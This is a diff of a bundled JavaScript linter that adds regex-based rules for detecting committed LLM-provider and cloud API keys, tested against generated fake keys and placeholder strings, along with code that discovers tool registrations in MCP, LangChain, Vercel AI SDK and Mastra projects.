+      "HF_TOKEN=hf_...\n",
+      "HF_TOKEN=hf_your_huggingface_token_here\n",
+      `HF_TOKEN=hf_${"abcdefghijklmnopq".repeat(2)}
+`,
+      // A long snake_case identifier is not a token.
+      "from config import hf_downloadModelWeightsFromHubCacheDir\n"
+    ]
+  })
+});
+
+// src/rules/secret/langsmith-api-key.ts
+var langsmithApiKey = providerKeyRule({
+  id: "secret/langsmith-api-key",
+  provider: "LangSmith",
+  description: "Finds committed LangSmith (LangChain) API keys: personal access tokens (lsv2_pt_\u2026) and service keys (lsv2_sk_\u2026).",
+  prefilter: ["lsv2_"],
+  shapes: [
+    { kind: "personal access token", pattern: "lsv2_pt_(?<body>[a-f0-9]{32}_[a-f0-9]{10})" },
+    { kind: "service key", pattern: "lsv2_sk_(?<body>[a-f0-9]{32}_[a-f0-9]{10})" }
+  ],
+  samples: (rng) => ({
+    findings: [...committedForms("langsmith-personal", rng, "langsmith.Client"), `LANGCHAIN_API_KEY="${fakeKey("langsmith-service", rng).key}"
+`],
+    clean: [
+      ...referenceForms("LANGSMITH_API_KEY"),
+      "LANGSMITH_API_KEY=lsv2_pt_...\n",
+      `LANGSMITH_API_KEY=lsv2_pt_${"0".repeat(32)}_${"0".repeat(10)}
+`,
+      "LANGSMITH_API_KEY=lsv2_sk_your_key_here\n"
+    ]
+  })
+});
+
+// src/rules/secret/mistral-api-key.ts
+var MISTRAL = /mistral/i;
+var mistralApiKey = providerKeyRule({
+  id: "secret/mistral-api-key",
+  provider: "Mistral",
+  description: "Finds committed Mistral AI API keys (32 alphanumerics) next to a Mistral env var, client or endpoint.",
+  prefilter: MISTRAL,
+  shapes: [{ kind: "API key", pattern: "(?<body>[A-Za-z0-9]{32})", near: MISTRAL, notHex: true }],
+  samples: (rng) => ({
+    findings: [...committedForms("mistral", rng, "Mistral"), `[mistral]
+model = "mistral-large-latest"
+api_key = "${fakeKey("mistral", rng).key}"
+`],
+    clean: [
+      ...referenceForms("MISTRAL_API_KEY"),
+      "MISTRAL_API_KEY=your_mistral_api_key\n",
+      // An MD5 checksum of a Mistral model file, on a line that names a key.
+      "mistral-7b.gguf md5 key: 9e107d9d372bb6826bd81d3542a419d6\n",
+      `OTHER_API_KEY=${fakeKey("mistral", rng).key}
+`
+    ]
+  })
+});
+
+// src/rules/secret/openai-api-key.ts
+var M = OPENAI_MARKER;
+var typed = (type) => `sk-${type}-(?<body>[A-Za-z0-9_-]{20,200}${M}[A-Za-z0-9_-]{20,200})`;
+var openaiApiKey = providerKeyRule({
+  id: "secret/openai-api-key",
+  provider: "OpenAI",
+  description: "Finds committed OpenAI API keys: legacy (sk-\u2026), project (sk-proj-\u2026), service account (sk-svcacct-\u2026) and admin (sk-admin-\u2026) keys.",
+  prefilter: ["sk-"],
+  secretlintRuleId: "@secretlint/secretlint-rule-openai",
+  shapes: [
+    { kind: "project key", pattern: typed("proj") },
+    { kind: "service account key", pattern: typed("svcacct") },
+    { kind: "admin key", pattern: typed("admin") },
+    { kind: "user key", pattern: typed("None") },
+    { kind: "legacy key", pattern: `sk-(?<body>[A-Za-z0-9]{20}${M}[A-Za-z0-9]{20})` },
+    // Project keys without the marker still carry a long random body after a distinctive prefix.
+    { kind: "project key", pattern: "sk-proj-(?<body>[A-Za-z0-9_-]{80,250})" }
+  ],
+  samples: (rng) => ({
+    findings: [
+      ...committedForms("openai-project", rng, "OpenAI"),
+      `OPENAI_API_KEY=${fakeKey("openai-legacy", rng).key}
+`,
+      `openai:
+  api_key: ${fakeKey("openai-svcacct", rng).key}
+`,
+      `export OPENAI_ADMIN_KEY='${fakeKey("openai-admin", rng).key}'
+`
+    ],
+    clean: [
+      ...referenceForms("OPENAI_API_KEY"),
+      "OPENAI_API_KEY=sk-your-key-here\n",
+      "OPENAI_API_KEY=sk-...\n",
+      "Project keys start with `sk-proj-`; legacy keys with `sk-`.\n",
+      `OPENAI_API_KEY=sk-proj-${"x".repeat(58)}${M}${"x".repeat(58)}
+`,
+      `OPENAI_API_KEY=sk-${"abcdefghij".repeat(2)}${M}${"0123456789".repeat(2)}
+`,
+      // Another provider's sk- key is not an OpenAI key.
+      `OPENROUTER_API_KEY=${fakeKey("openrouter", rng).key}
+`
+    ]
+  })
+});
+
+// src/rules/secret/openrouter-api-key.ts
+var openrouterApiKey = providerKeyRule({
+  id: "secret/openrouter-api-key",
+  provider: "OpenRouter",
+  description: "Finds committed OpenRouter API keys (sk-or-v1-\u2026).",
+  prefilter: ["sk-or-"],
+  shapes: [{ kind: "API key", pattern: "sk-or-v1-(?<body>[a-f0-9]{64})" }],
+  samples: (rng) => ({
+    findings: committedForms("openrouter", rng, "OpenAI"),
+    clean: [
+      ...referenceForms("OPENROUTER_API_KEY"),
+      "OPENROUTER_API_KEY=sk-or-v1-...\n",
+      "OPENROUTER_API_KEY=sk-or-v1-<redacted>\n",
+      `OPENROUTER_API_KEY=sk-or-v1-${"0123456789abcdef".repeat(4)}
+`
+    ]
+  })
+});
+
+// src/rules/secret/perplexity-api-key.ts
+var perplexityApiKey = providerKeyRule({
+  id: "secret/perplexity-api-key",
+  provider: "Perplexity",
+  description: "Finds committed Perplexity API keys (pplx-\u2026).",
+  prefilter: ["pplx-"],
+  shapes: [{ kind: "API key", pattern: "pplx-(?<body>[A-Za-z0-9]{40,64})" }],
+  samples: (rng) => ({
+    findings: committedForms("perplexity", rng, "OpenAI"),
+    clean: [
+      ...referenceForms("PERPLEXITY_API_KEY"),
+      "PERPLEXITY_API_KEY=pplx-...\n",
+      `PERPLEXITY_API_KEY=pplx-${"1234567890abcdef".repeat(3)}
+`,
+      "PERPLEXITY_API_KEY=pplx-your-perplexity-api-key\n"
+    ]
+  })
+});
+
+// src/rules/secret/pinecone-api-key.ts
+var pineconeApiKey = providerKeyRule({
+  id: "secret/pinecone-api-key",
+  provider: "Pinecone",
+  description: "Finds committed Pinecone API keys (pcsk_\u2026).",
+  prefilter: ["pcsk_"],
+  shapes: [{ kind: "API key", pattern: "pcsk_(?<body>[A-Za-z0-9]{4,8}_[A-Za-z0-9]{40,90})" }],
+  samples: (rng) => ({
+    findings: committedForms("pinecone", rng, "Pinecone"),
+    clean: [
+      ...referenceForms("PINECONE_API_KEY"),
+      "PINECONE_API_KEY=pcsk_...\n",
+      `PINECONE_API_KEY=pcsk_abcdef_${"x".repeat(63)}
+`,
+      // Pinecone's older keys were UUIDs; a UUID alone is not a finding (it is also every request id).
+      'request_id = "3f2b8c1e-9d4a-4e7b-a1c2-5d6e7f8a9b0c"\n'
+    ]
+  })
+});
+
+// src/rules/secret/replicate-api-token.ts
+var replicateApiToken = providerKeyRule({
+  id: "secret/replicate-api-token",
+  provider: "Replicate",
+  description: "Finds committed Replicate API tokens (r8_\u2026).",
+  prefilter: ["r8_"],
+  shapes: [{ kind: "API token", pattern: "r8_(?<body>[A-Za-z0-9]{37,40})" }],
+  samples: (rng) => ({
+    findings: committedForms("replicate", rng, "replicate.Client"),
+    clean: [
+      ...referenceForms("REPLICATE_API_TOKEN"),
+      "REPLICATE_API_TOKEN=r8_...\n",
+      "REPLICATE_API_TOKEN=r8_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
+      "REPLICATE_API_TOKEN=r8_your_replicate_api_token_goes_here\n"
+    ]
+  })
+});
+
+// src/rules/secret/secretlint-preset.ts
+var ROTATE = "Revoke or rotate the credential, remove it from the repository (and its history), and load it from the environment or a secret store.";
+var PRESET_RULES = [
+  {
+    secretlintId: "@secretlint/secretlint-rule-aws",
+    id: "secret/aws-credentials",
+    description: "Finds committed AWS access key ids (AKIA\u2026, ASIA\u2026), secret access keys and account ids.",
+    fix: ROTATE,
+    kinds: { AWSAccessKeyID: "AWS access key id", AWSSecretAccessKey: "AWS secret access key", AWSAccountID: "AWS account id" },
+    severities: { AWSAccountID: "warning" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-gcp",
+    id: "secret/gcp-service-account-key",
+    description: "Finds committed Google Cloud service account keys (JSON key files with a private key).",
+    fix: ROTATE,
+    kinds: { PrivateKeyJSON: "GCP service account key (JSON)", PrivateKeyP12: "GCP service account key (P12)" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-privatekey",
+    id: "secret/private-key",
+    description: "Finds committed PEM private keys (RSA, DSA, EC, OpenSSH, PGP).",
+    fix: "Treat the key pair as compromised: replace it, remove the private key from the repository and its history, and keep it in a secret store.",
+    kinds: { PrivateKey: "private key" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-npm",
+    id: "secret/npm-token",
+    description: "Finds committed npm access tokens (npm_\u2026) and registry auth tokens in .npmrc or package.json.",
+    fix: ROTATE,
+    kinds: { NPM_ACCESS_TOKEN: "npm access token", Npmrc_authToken: "npm registry auth token", PackageJSON_xOauthToken: "GitHub OAuth token in a package URL" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-basicauth",
+    id: "secret/basic-auth-url",
+    description: "Finds URLs with a user name and password in them (https://user:password@host).",
+    fix: "Change the password, remove it from the URL, and pass credentials through the environment or a secret store.",
+    kinds: { BasicAuth: "password in a URL" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-slack",
+    id: "secret/slack-token",
+    description: "Finds committed Slack tokens (xoxb-, xoxp-, xapp-\u2026) and incoming webhook URLs.",
+    fix: ROTATE,
+    kinds: { SLACK_TOKEN: "Slack token", IncomingWebhook: "Slack incoming webhook URL" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-sendgrid",
+    id: "secret/sendgrid-api-key",
+    description: "Finds committed SendGrid API keys (SG.\u2026.\u2026).",
+    fix: ROTATE,
+    kinds: { SENDGRID_KEY: "SendGrid API key" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-shopify",
+    id: "secret/shopify-token",
+    description: "Finds committed Shopify access tokens and shared secrets (shpat_, shpca_, shppa_, shpss_).",
+    fix: ROTATE,
+    kinds: { SHOPIFY_KEY: "Shopify token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-github",
+    id: "secret/github-token",
+    description: "Finds committed GitHub tokens: classic (ghp_, gho_, ghu_, ghs_, ghr_) and fine-grained (github_pat_).",
+    fix: ROTATE,
+    kinds: { GITHUB_TOKEN: "GitHub token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-gitlab",
+    id: "secret/gitlab-token",
+    description: "Finds committed GitLab personal access tokens (glpat-\u2026).",
+    fix: ROTATE,
+    kinds: { GITLAB_PERSONAL_ACCESS_TOKEN: "GitLab personal access token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-linear",
+    id: "secret/linear-api-key",
+    description: "Finds committed Linear API keys (lin_api_\u2026).",
+    fix: ROTATE,
+    kinds: { LINEAR_API_TOKEN: "Linear API key" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-notion",
+    id: "secret/notion-token",
+    description: "Finds committed Notion integration tokens (ntn_\u2026).",
+    fix: ROTATE,
+    kinds: { NOTION_INTEGRATION_TOKEN: "Notion integration token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-1password",
+    id: "secret/1password-service-account-token",
+    description: "Finds committed 1Password service account tokens (ops_ey\u2026).",
+    fix: ROTATE,
+    kinds: { OPS_TOKEN: "1Password service account token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-database-connection-string",
+    id: "secret/database-connection-string",
+    description: "Finds MongoDB, MySQL and PostgreSQL connection strings with a password in them.",
+    fix: "Change the database password, remove it from the connection string, and build the string from the environment or a secret store.",
+    kinds: { MongoDBConnection: "MongoDB connection string with a password", MySQLConnection: "MySQL connection string with a password", PostgreSQLConnection: "PostgreSQL connection string with a password" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-grafana",
+    id: "secret/grafana-token",
+    description: "Finds committed Grafana Cloud API tokens (glc_\u2026) and service account tokens (glsa_\u2026).",
+    fix: ROTATE,
+    kinds: { GRAFANA_CLOUD_API_TOKEN: "Grafana Cloud API token", GRAFANA_SERVICE_ACCOUNT_TOKEN: "Grafana service account token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-hashicorp-vault",
+    id: "secret/hashicorp-vault-token",
+    description: "Finds committed HashiCorp Vault service, batch and recovery tokens (hvs., hvb., hvr.).",
+    fix: ROTATE,
+    kinds: {
+      HASHICORP_VAULT_SERVICE_TOKEN: "HashiCorp Vault service token",
+      HASHICORP_VAULT_BATCH_TOKEN: "HashiCorp Vault batch token",
+      HASHICORP_VAULT_RECOVERY_TOKEN: "HashiCorp Vault recovery token"
+    }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-vercel",
+    id: "secret/vercel-token",
+    description: "Finds committed Vercel tokens, including Vercel AI Gateway API keys (vck_\u2026).",
+    fix: ROTATE,
+    kinds: {
+      VERCEL_PERSONAL_ACCESS_TOKEN: "Vercel personal access token",
+      VERCEL_INTEGRATION_TOKEN: "Vercel integration token",
+      VERCEL_APP_ACCESS_TOKEN: "Vercel app access token",
+      VERCEL_APP_REFRESH_TOKEN: "Vercel app refresh token",
+      VERCEL_AI_GATEWAY_API_KEY: "Vercel AI Gateway API key"
+    }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-databricks",
+    id: "secret/databricks-token",
+    description: "Finds committed Databricks personal access tokens (dapi\u2026).",
+    fix: ROTATE,
+    kinds: { DATABRICKS_PERSONAL_ACCESS_TOKEN: "Databricks personal access token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-docker",
+    id: "secret/docker-hub-token",
+    description: "Finds committed Docker Hub personal access tokens (dckr_pat_\u2026).",
+    fix: ROTATE,
+    kinds: { DOCKER_PERSONAL_ACCESS_TOKEN: "Docker Hub personal access token" }
+  },
+  {
+    secretlintId: "@secretlint/secretlint-rule-figma",
+    id: "secret/figma-token",
+    description: "Finds committed Figma personal access tokens (figd_\u2026).",
+    fix: ROTATE,
+    kinds: { FIGMA_PERSONAL_ACCESS_TOKEN: "Figma personal access token" }
+  }
+];
+function presetRule(spec) {
+  return {
+    meta: {
+      id: spec.id,
+      family: "secret",
+      severity: "error",
+      description: spec.description,
+      fix: spec.fix,
+      messages: { found: "{{kind}} committed: {{masked}}" }
+    },
+    appliesTo: () => true,
+    async check(ctx) {
+      for (const hit of await secretlintHits(ctx)) {
+        if (hit.ruleId !== spec.secretlintId) continue;
+        const structured = hit.secret.includes("://") || hit.secret.includes("-----");
+        if (structured ? longestRepeat(hit.secret) >= 8 : placeholderReason(hit.secret)) continue;
+        ctx.report({
+          messageId: "found",
+          data: { kind: spec.kinds[hit.messageId] ?? "credential", masked: maskSecret(hit.secret) },
+          range: ctx.file.rangeOf(hit.start, hit.end),
+          secret: hit.secret,
+          ...spec.severities?.[hit.messageId] ? { severity: spec.severities[hit.messageId] } : {},
+          properties: { detector: spec.secretlintId }
+        });
+      }
+    }
+  };
+}
+var presetRules = PRESET_RULES.map(presetRule);
+
+// src/rules/secret/together-api-key.ts
+var togetherApiKey = providerKeyRule({
+  id: "secret/together-api-key",
+  provider: "Together AI",
+  description: "Finds committed Together AI API keys (tgp_v1_\u2026, and older 64-hex keys next to a Together name or env var).",
+  prefilter: /tgp_v1_|together/i,
+  shapes: [
+    { kind: "API key", pattern: "tgp_v1_(?<body>[A-Za-z0-9_-]{40,50})" },
+    { kind: "legacy API key", pattern: "(?<body>[a-f0-9]{64})", near: /together/i }
+  ],
+  samples: (rng) => ({
+    findings: committedForms("together", rng, "Together"),
+    clean: [
+      ...referenceForms("TOGETHER_API_KEY"),
+      "TOGETHER_API_KEY=tgp_v1_...\n",
+      "TOGETHER_API_KEY=tgp_v1_your_together_api_key_here_0000000\n",
+      // A sha256 digest near the word "together" but not on a credential line.
+      "Together with the weights we publish their digest:\nsha256 = 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n"
+    ]
+  })
+});
+
+// src/rules/secret/xai-api-key.ts
+var xaiApiKey = providerKeyRule({
+  id: "secret/xai-api-key",
+  provider: "xAI",
+  description: "Finds committed xAI (Grok) API keys (xai-\u2026).",
+  prefilter: ["xai-"],
+  shapes: [{ kind: "API key", pattern: "xai-(?<body>[A-Za-z0-9]{60,100})" }],
+  samples: (rng) => ({
+    findings: committedForms("xai", rng, "Client"),
+    clean: [
+      ...referenceForms("XAI_API_KEY"),
+      "XAI_API_KEY=xai-...\n",
+      "XAI_API_KEY=xai-your-xai-api-key\n",
+      `XAI_API_KEY=xai-${"AbCd".repeat(20)}
+`,
+      'import { createXai } from "@ai-sdk/xai"; const model = "xai-grok-4-fast-reasoning-latest";\n'
+    ]
+  })
+});
 
 // src/rules/secret/index.ts
-var secretRules = [];
+var providerKeyRules = [
+  openaiApiKey,
+  anthropicApiKey,
+  googleApiKey,
+  huggingfaceToken,
+  groqApiKey,
+  replicateApiToken,
+  perplexityApiKey,
+  langsmithApiKey,
+  pineconeApiKey,
+  xaiApiKey,
+  togetherApiKey,
+  openrouterApiKey,
+  fireworksApiKey,
+  deepseekApiKey,
+  cohereApiKey,
+  mistralApiKey,
+  azureOpenaiApiKey
+];
+var secretRules = [...providerKeyRules, ...presetRules];
+
+// src/tools/common.ts
+function parsedModule(project, path2) {
+  return project.memo(`tools:parsed:${path2}`, async () => {
+    const file = await project.getFile(path2);
+    if (!file || !file.isCode) return null;
+    let parsed = null;
+    try {
+      parsed = await parseCode(file.language, file.text);
+    } catch {
+      return null;
+    }
+    return parsed ? { file, root: parsed.root } : null;
+  });
+}
+function pathSet(project) {
+  return project.memo("tools:paths", async () => new Set(await project.allPaths()));
+}
+function dirOf(path2) {
+  const i2 = path2.lastIndexOf("/");
+  return i2 < 0 ? "" : path2.slice(0, i2);
+}
+function joinPath(dir, rel) {
+  const parts2 = dir ? dir.split("/") : [];
+  for (const seg of rel.split("/")) {
+    if (seg === "" || seg === ".") continue;
+    if (seg === "..") {
+      if (parts2.length === 0) return null;
+      parts2.pop();
+    } else parts2.push(seg);
+  }
+  return parts2.join("/");
+}
+function rangeOfNode(file, node) {
+  return file.rangeOf(node.startIndex, node.endIndex);
+}
+function decodeEscapes(raw) {
+  return raw.replace(/\\(u\{([0-9a-fA-F]+)\}|u([0-9a-fA-F]{4})|U([0-9a-fA-F]{8})|x([0-9a-fA-F]{2})|n|t|r|\\|'|"|`)/g, (m, _all, braced, u4, u8, x2) => {
+    const hex = braced ?? u4 ?? u8 ?? x2;
+    if (hex) {
+      const cp = parseInt(hex, 16);
+      return cp <= 1114111 ? String.fromCodePoint(cp) : m;
+    }
+    const c = m[1];
+    return c === "n" ? "\n" : c === "t" ? "	" : c === "r" ? "\r" : c;
+  });
+}
+function cleanDoc(text) {
+  const lines = text.replace(/\r\n/g, "\n").split("\n");
+  const rest = lines.slice(1).filter((l) => l.trim());
+  const indent = rest.length ? Math.min(...rest.map((l) => l.length - l.trimStart().length)) : 0;
+  return [lines[0].trim(), ...lines.slice(1).map((l) => l.slice(indent))].join("\n").trim();
+}
+function sortHandlers(handlers) {
+  return handlers.sort(
+    (a, b) => (a.registration.path < b.registration.path ? -1 : a.registration.path > b.registration.path ? 1 : 0) || a.registration.range.startLine - b.registration.range.startLine || a.registration.range.startColumn - b.registration.range.startColumn || a.handler.range.startLine - b.handler.range.startLine
+  );
+}
+function walk2(node, visit2) {
+  const stack = [node];
+  while (stack.length) {
+    const n = stack.pop();
+    if (visit2(n) === false) continue;
+    const kids = n.namedChildren;
+    for (let i2 = kids.length - 1; i2 >= 0; i2--) {
+      const k = kids[i2];
+      if (k) stack.push(k);
+    }
+  }
+}
+
+// src/tools/javascript.ts
+function libOf(module2) {
+  if (module2 === "ai" || module2.startsWith("ai/")) return "vercel";
+  if (module2.startsWith("@openai/agents")) return "openai-agents";
+  if (module2.startsWith("@langchain/") || module2 === "langchain" || module2.startsWith("langchain/")) return "langchain";
+  if (module2.startsWith("@mastra/")) return "mastra";
+  if (module2.startsWith("@modelcontextprotocol/") || module2 === "fastmcp" || module2 === "mcp-framework") return "mcp";
+  return null;
+}
+var FUNCTION_TYPES = /* @__PURE__ */ new Set(["arrow_function", "function_expression", "function", "function_declaration", "method_definition", "generator_function", "generator_function_declaration"]);
+function unwrapExpr(n) {
+  let cur = n ?? null;
+  while (cur && (cur.type === "parenthesized_expression" || cur.type === "as_expression" || cur.type === "satisfies_expression" || cur.type === "await_expression" || cur.type === "non_null_expression" || cur.type === "type_assertion")) {
+    cur = cur.namedChildren.find((c) => c && c.type !== "type_annotation" && !c.type.endsWith("_type") && c.type !== "type_identifier") ?? null;
+  }
+  return cur;
+}
+function requireSource(n) {
+  const v = unwrapExpr(n);
+  if (v?.type !== "call_expression") return null;
+  const f = v.childForFieldName("function");
+  if (!f || !(f.type === "identifier" && f.text === "require" || f.type === "import")) return null;
+  const arg2 = v.childForFieldName("arguments")?.namedChildren[0];
+  return arg2?.type === "string" ? stringLiteral(arg2) : null;
+}
+function stringLiteral(n) {
+  if (n.type === "string") {
+    return decodeEscapes(n.text.slice(1, -1));
+  }
+  if (n.type === "template_string") {
+    if (n.namedChildren.some((c) => c?.type === "template_substitution")) return null;
+    return decodeEscapes(n.text.slice(1, -1));
+  }
+  return null;
+}
+function analyseImports(root) {
+  const imports = /* @__PURE__ */ new Map();
+  walk2(root, (n) => {
+    if (n.type === "import_statement") {
+      const src = n.childForFieldName("source");
+      const module2 = src ? stringLiteral(src) ?? "" : "";
+      const clause = n.namedChildren.find((c) => c?.type === "import_clause");
+      for (const c of clause?.namedChildren ?? []) {
+        if (!c) continue;
+        if (c.type === "identifier") imports.set(c.text, { module: module2, imported: "default" });
+        else if (c.type === "namespace_import") {
+          const id = c.namedChildren.find((k) => k?.type === "identifier");
+          if (id) imports.set(id.text, { module: module2, imported: "*" });
+        } else if (c.type === "named_imports") {
+          for (const s of c.namedChildren) {
+            if (s?.type !== "import_specifier") continue;
+            const name2 = s.childForFieldName("name")?.text ?? "";
+            const alias = s.childForFieldName("alias")?.text ?? name2;
+            imports.set(alias, { module: module2, imported: name2.replace(/^['"]|['"]$/g, "") });
+          }
+        }
+      }
+      return false;
+    }
+    if (n.type === "variable_declarator") {
+      const value = n.childForFieldName("value");
+      const name2 = n.childForFieldName("name");
+      let module2 = requireSource(value);
+      let member = null;
+      const v = unwrapExpr(value);
+      if (!module2 && v?.type === "member_expression") {
+        module2 = requireSource(v.childForFieldName("object"));
+        member = v.childForFieldName("property")?.text ?? null;
+      }
+      if (module2 === null || !name2) return true;
+      if (name2.type === "identifier") imports.set(name2.text, { module: module2, imported: member ?? "*" });
+      else if (name2.type === "object_pattern" && !member) {
+        for (const p of name2.namedChildren) {
+          if (p?.type === "shorthand_property_identifier_pattern") imports.set(p.text, { module: module2, imported: p.text });
+          else if (p?.type === "pair_pattern") {
+            const key = p.childForFieldName("key")?.text ?? "";
+            const val = p.childForFieldName("value");
+            if (val?.type === "identifier") imports.set(val.text, { module: module2, imported: key });
+          }
+        }
+      }
+      return false;
+    }
+    return true;
+  });
+  return imports;
+}
+function objectProps(obj) {
+  const out2 = /* @__PURE__ */ new Map();
+  if (obj?.type !== "object") return out2;
+  for (const p of obj.namedChildren) {
+    if (!p) continue;
+    if (p.type === "pair") {
+      const k = p.childForFieldName("key");
+      const v = p.childForFieldName("value");
+      if (k && v) out2.set(keyText(k), v);
+    } else if (p.type === "shorthand_property_identifier") out2.set(p.text, p);
+    else if (p.type === "method_definition") {
+      const k = p.childForFieldName("name");
+      if (k) out2.set(keyText(k), p);
+    }
+  }
+  return out2;
+}
+function keyText(k) {
+  if (k.type === "string") return stringLiteral(k) ?? k.text;
+  return k.text;
+}
+var JsDiscovery = class {
+  constructor(file, language, view, project) {
+    this.file = file;
+    this.language = language;
+    this.view = view;
+    this.project = project;
+    this.root = view.root;
+    this.imports = analyseImports(this.root);
+    for (const i2 of this.imports.values()) {
+      const l = libOf(i2.module);
+      if (l) this.libs.add(l);
+    }
+  }
+  file;
+  language;
+  view;
+  project;
+  imports;
+  libs = /* @__PURE__ */ new Set();
+  root;
+  async run() {
+    const candidates = [];
+    const listTexts = [];
+    const calls = [];
+    const classes = [];
+    walk2(this.root, (n) => {
+      if (n.type === "call_expression" || n.type === "new_expression") calls.push(n);
+      else if (n.type === "class_declaration" || n.type === "class" || n.type === "abstract_class_declaration") classes.push(n);
+      return true;
+    });
+    for (const call of calls) {
+      const r2 = this.fromCall(call);
+      if (r2 === null) continue;
+      if ("list" in r2) listTexts.push(...r2.list);
+      else candidates.push(r2);
+    }
+    candidates.push(...this.fromClasses(classes));
+    const out2 = [];
+    for (const c of candidates) {
+      const h = await this.build(c, c.framework === "mcp-typescript" && c.inputPath?.length === 2 ? listTexts : []);
+      if (h) out2.push(h);
+    }
+    return out2;
+  }
+  /** The imported name a callee refers to (`tool`, `aiTool` → 'tool', `ai.tool` → 'tool'), with its library. */
+  calleeImport(callee) {
+    if (callee.type === "identifier") {
+      const imp = this.imports.get(callee.text);
+      if (!imp) return { imported: callee.text, lib: null, explicit: false };
+      return { imported: imp.imported, lib: libOf(imp.module), explicit: true, module: imp.module };
+    }
+    if (callee.type === "member_expression") {
+      const obj = callee.childForFieldName("object");
+      const prop = callee.childForFieldName("property")?.text ?? "";
+      if (obj?.type === "identifier") {
+        const imp = this.imports.get(obj.text);
+        if (imp && (imp.imported === "*" || imp.imported === "default")) return { imported: prop, lib: libOf(imp.module), explicit: true, module: imp.module };
+      }
+    }
+    return null;
+  }
+  fromCall(call) {
+    const isNew = call.type === "new_expression";
+    const callee = call.childForFieldName(isNew ? "constructor" : "function");
+    const argsNode = call.childForFieldName("arguments");
+    if (!callee || !argsNode) return null;
+    const args2 = argsNode.namedChildren.filter((a) => Boolean(a) && a.type !== "comment");
+    const ci = this.calleeImport(callee);
+    if (ci) {
+      const { imported, lib, explicit } = ci;
+      if (explicit && lib === null) return null;
+      if (!explicit && findFunction(this.root, imported)) return null;
+      if (!isNew && imported === "tool") return this.toolCall(call, args2, lib, explicit);
+      if (!isNew && imported === "createTool") {
+        if (explicit && lib !== "mastra") return null;
+        const cfg = unwrapExpr(args2[0]);
+        const props = objectProps(cfg);
+        if (!props.has("execute") || !explicit && !props.has("id")) return null;
+        return { framework: "mastra", name: this.str(props.get("id")) ?? this.bindingName(call) ?? "tool", registration: call, handlerRef: props.get("execute"), descNode: props.get("description"), mastra: true, texts: this.textsOf(cfg, [props.get("execute"), props.get("description")]) };
+      }
+      if (isNew && (imported === "DynamicStructuredTool" || imported === "DynamicTool")) {
+        if (explicit && lib !== "langchain") return null;
+        const cfg = unwrapExpr(args2[0]);
+        const props = objectProps(cfg);
+        const fn = props.get("func") ?? props.get("coroutine");
+        if (!fn) return null;
+        return { framework: "langchain-js", name: this.str(props.get("name")) ?? this.bindingName(call) ?? imported, registration: call, handlerRef: fn, descNode: props.get("description"), valueInput: imported === "DynamicTool", texts: this.textsOf(cfg, [fn, props.get("description")]) };
+      }
+      return null;
+    }
+    if (isNew || callee.type !== "member_expression") return null;
+    const method = callee.childForFieldName("property")?.text ?? "";
+    const receiver = callee.childForFieldName("object");
+    if (method === "tool" || method === "registerTool") {
+      if (args2.length < 2) return null;
+      const name2 = this.str(args2[0]);
+      if (name2 === null) return null;
+      const last = args2[args2.length - 1];
+      if (!this.looksLikeFunctionRef(last)) return null;
+      if (!this.mcpEvidence(receiver)) return null;
+      if (method === "registerTool") {
+        if (args2.length !== 3) return null;
+        const cfg = this.objectOf(args2[1]);
+        const props = objectProps(cfg);
+        return { framework: "mcp-typescript", name: name2, registration: call, handlerRef: last, descNode: props.get("description"), inputPath: [], noInput: cfg?.type === "object" && !props.has("inputSchema"), texts: this.textsOf(cfg?.type === "object" ? cfg : argsNode, [last, props.get("description"), args2[0]]) };
+      }
+      const middle = args2.slice(1, -1);
+      const descNode = middle.length && this.str(middle[0]) !== null ? middle[0] : null;
+      const schemaArgs = middle.filter((m) => m !== descNode);
+      return { framework: "mcp-typescript", name: name2, registration: call, handlerRef: last, descNode, inputPath: [], noInput: schemaArgs.length === 0, texts: this.textsOf(argsNode, [last, descNode, args2[0]]) };
+    }
+    if (method === "setRequestHandler" && args2.length === 2) {
+      const schema = args2[0].text.split(".").pop() ?? "";
+      if (schema === "ListToolsRequestSchema") return { list: this.textsOf(args2[1], []) };
+      if (schema !== "CallToolRequestSchema") return null;
+      return { framework: "mcp-typescript", name: "CallTool", registration: call, handlerRef: args2[1], inputPath: ["params", "arguments"] };
+    }
+    return null;
+  }
+  toolCall(call, args2, lib, explicit) {
+    const first = unwrapExpr(args2[0]);
+    if (!first) return null;
+    if (first.type !== "object") {
+      if (explicit && lib !== "langchain") return null;
+      const cfg = unwrapExpr(args2[1]);
+      if (cfg?.type !== "object" || !this.looksLikeFunctionRef(first)) return null;
+      const props2 = objectProps(cfg);
+      if (!explicit && !props2.has("schema") && !props2.has("name")) return null;
+      return { framework: "langchain-js", name: this.str(props2.get("name")) ?? this.bindingName(call) ?? "tool", registration: call, handlerRef: first, descNode: props2.get("description"), inputPath: [], texts: this.textsOf(cfg, [props2.get("description")]) };
+    }
+    const props = objectProps(first);
+    const execute = props.get("execute");
+    if (!execute) return null;
+    let fw = null;
+    if (lib === "vercel") fw = "vercel-ai-sdk";
+    else if (lib === "openai-agents") fw = "openai-agents-js";
+    else if (!explicit || lib === null) {
+      if (!props.has("parameters") && !props.has("inputSchema") && !props.has("description")) return null;
+      fw = this.libs.has("openai-agents") ? "openai-agents-js" : this.libs.has("vercel") ? "vercel-ai-sdk" : props.has("name") ? "openai-agents-js" : "vercel-ai-sdk";
+    }
+    if (!fw) return null;
+    const name2 = (fw === "openai-agents-js" ? this.str(props.get("name")) : null) ?? this.bindingName(call) ?? this.str(props.get("name")) ?? "tool";
